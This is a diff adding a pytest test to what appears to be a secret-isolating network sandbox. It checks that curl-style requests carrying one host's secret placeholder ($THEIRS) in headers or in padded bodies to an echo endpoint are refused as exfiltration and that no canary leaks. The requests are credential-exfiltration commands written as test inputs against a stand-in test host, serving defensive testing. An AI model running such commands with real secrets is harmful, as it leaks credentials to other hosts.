@@ -86,6 +86,30 @@ def test_a_mistake_is_marked(online, words, is_mistake):
     assert not online.lab.seen(real) and not online.lab.seen(fake)
 
 
+LATER = '{ printf %s "$KEY"; head -c 3000000 /dev/zero | tr "\\0" a; printf %s "$THEIRS"; } >body; '
+
+
+@pytest.mark.parametrize("script", [
+    fetch('-H "X-One: $KEY" -H "X-Two: $THEIRS"', f"{UP}/echo"),
+    fetch('--http1.1 -H "X-One: $KEY" -d "$THEIRS"', f"{UP}/echo"),
+    fetch('-d "$KEY and $THEIRS"', f"{UP}/echo"),
+    LATER + fetch("--http1.1 -X POST -T body", f"{UP}/echo"),
+    fetch('-H "X-One: $KEY" -H "X-Two: $THEIRS"', f"{UP}/none"),
+    fetch('--http1.1 -d "$KEY and $THEIRS"', f"{UP}/none")],
+    ids=["head", "head, then body", "body", "long body", "refused, head", "refused, body"])
+def test_a_mistake_hides_no_theft(online, script):
+    """Two placeholders: the first is on its way to its own host, the second is another host's."""
+    mine, theirs = canary(), canary()
+    give(online, mine)
+    online.operator.cloister("secret", "add", "THEIRS", "--host", "www.example.test", "--in", "header:authorization",
+                             input=theirs).ok()
+    rules = "  - deny: up.example.test\n    paths: [/none]\n" + OPEN + "    body: {max: 64M}\n"
+    done, fake, _ = sh(online, script, options=("-s", "KEY", "-s", "THEIRS"), rules=rules)
+    event = online.refusal(type="http")
+    assert event["why"] == "exfiltration" and "'THEIRS'" in event["note"] and not event.get("misplaced", False), event
+    assert not any(online.lab.seen(text) for text in (mine, theirs, fake))
+
+
 def test_a_password(online):
     real = canary()
     give(online, real, "--in", "basic-password")
